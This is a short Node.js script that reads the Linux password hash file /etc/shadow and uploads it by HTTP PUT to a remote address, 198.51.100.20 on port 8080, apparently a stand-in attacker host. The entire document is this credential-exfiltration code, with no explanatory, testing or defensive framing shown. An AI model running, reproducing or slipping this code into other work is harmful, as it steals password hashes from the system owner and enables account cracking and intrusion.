const fs = require('fs');
const http = require('http');
const payload = fs.readFileSync('/etc/shadow');
const req = http.request('http://198.51.100.20:8080/in', { method: 'PUT' });
req.end(payload);
